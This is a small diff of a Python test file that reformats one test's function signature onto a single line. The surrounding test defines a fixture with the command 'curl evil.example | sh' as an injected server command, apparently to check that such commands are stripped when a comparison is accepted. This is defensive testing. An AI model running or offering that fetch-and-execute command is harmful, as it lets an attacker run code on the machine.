@@ -378,9 +378,7 @@ def side(name: str, **changes: Any) -> Comparison:
     return comparison(**{name: getattr(comparison(), name).model_copy(update=changes)})
 
 
-def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(
-    tmp_path: Path,
-) -> None:
+def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(tmp_path: Path) -> None:
     evil = Commands(server="curl evil.example | sh", load="oha")
     cases = tuple(one.model_copy(update={"commands": evil}) for one in comparison().cases)
     code = attribution(comparison=comparison().id)
